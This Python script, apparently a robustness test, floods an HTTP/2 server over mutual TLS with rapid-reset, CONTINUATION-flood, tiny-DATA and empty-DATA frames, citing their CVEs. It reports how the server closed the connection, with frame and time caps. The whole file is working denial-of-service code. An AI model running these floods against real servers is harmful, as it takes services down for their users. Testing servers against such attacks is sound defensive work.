"""Abuses HTTP/2 at the peers' door with python `h2` and raw frames (PyPI `h2`).

Usage: h2_abuse.py KIND DOOR BUNDLE LEAF KEY AUTHORITY

KIND: rapid-reset, continuation-flood, tiny-data or empty-data. Prints JSON: how many frames were sent, and how the connection
ended: the GOAWAY's error code, `closed` without one, or null when it lived on to the end.
"""

import json
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import hpack
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, RstStreamFrame

FRAMES_MAX = 200_000
BATCH = 2_000
SECONDS_MAX = 20


class Session:
    """One TLS connection with the h2 preface exchanged."""

    def __init__(self, door, bundle, leaf, key):
        context = ssl.create_default_context(cafile=bundle)
        context.load_cert_chain(leaf, key)
        context.set_alpn_protocols(["h2"])
        host, port = door.rsplit(":", 1)
        self.socket = context.wrap_socket(socket.create_connection((host, int(port))), server_hostname=host)
        self.socket.settimeout(5)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.ended = None
        self.flush()
        self.hear(wait=5)

    def flush(self):
        self.send(self.h2.data_to_send())

    def send(self, octets):
        try:
            self.socket.sendall(octets)
        except OSError:
            self.hear(wait=1)
            self.ended = self.ended or "closed"

    def hear(self, wait=0.0):
        """Takes what arrived; returns the events, and notes a GOAWAY or the end."""
        events = []
        self.socket.settimeout(max(wait, 0.001))
        try:
            while octets := self.socket.recv(65536):
                for event in self.h2.receive_data(octets):
                    events.append(event)
                    if isinstance(event, h2.events.ConnectionTerminated):
                        self.ended = h2.errors.ErrorCodes(event.error_code).name
                self.socket.settimeout(0.001)
            self.ended = self.ended or "closed"
        except (TimeoutError, ssl.SSLWantReadError):
            pass
        except (OSError, h2.exceptions.ProtocolError):
            self.ended = self.ended or "closed"
        self.socket.settimeout(5)
        return events


def connect_headers(authority):
    return [(":method", "CONNECT"), (":authority", authority)]


def rapid_reset(session, authority):
    """Opens a flow and resets it in the same breath (CVE-2023-44487)."""
    encoder, sent = hpack.Encoder(), 0
    for first in range(0, FRAMES_MAX, BATCH):
        octets = bytearray()
        for number in range(first, first + BATCH):
            stream = 2 * number + 1
            headers = HeadersFrame(stream, encoder.encode(connect_headers(authority)), flags=["END_HEADERS"])
            octets += headers.serialize() + RstStreamFrame(stream, error_code=8).serialize()
        session.send(octets)
        sent += BATCH
        session.hear()
        yield sent


def continuation_flood(session, authority):
    """A header block without end (CVE-2024-27316)."""
    encoder, sent = hpack.Encoder(), 0
    session.send(HeadersFrame(1, encoder.encode(connect_headers(authority))).serialize())
    frame = ContinuationFrame(1, encoder.encode([("x", "y")], huffman=False)).serialize()
    while True:
        session.send(frame * BATCH)
        sent += BATCH
        session.hear()
        yield sent


def open_flow(session, authority):
    session.h2.send_headers(1, connect_headers(authority))
    session.flush()
    answer = [e for e in session.hear(wait=5) if isinstance(e, h2.events.ResponseReceived)]
    assert answer and dict(answer[0].headers)[":status"] == "200", answer


def tiny_data(session, authority):
    """One flow whose every byte comes in a DATA frame of its own, to a service that reads nothing."""
    open_flow(session, authority)
    sent = 0
    while True:
        room = min(BATCH, session.h2.local_flow_control_window(1))
        for _ in range(room):
            session.h2.send_data(1, b"x")
        if room == 0:
            time.sleep(0.05)
        session.flush()
        sent += room
        session.hear()
        yield sent


def empty_data(session, authority):
    """One flow of DATA frames that carry nothing (CVE-2019-9518)."""
    open_flow(session, authority)
    sent = 0
    while True:
        session.send(DataFrame(1).serialize() * BATCH)
        sent += BATCH
        session.hear()
        yield sent


KINDS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "tiny-data": tiny_data,
    "empty-data": empty_data,
}


def main(kind, door, bundle, leaf, key, authority):
    session = Session(door, bundle, leaf, key)
    end, sent = time.monotonic() + SECONDS_MAX, 0
    for sent in KINDS[kind](session, authority):
        if session.ended or sent >= FRAMES_MAX or time.monotonic() > end:
            break
    session.ended or session.hear(wait=1)
    print(json.dumps({"sent": sent, "ended": session.ended}))


if __name__ == "__main__":
    main(*sys.argv[1:])
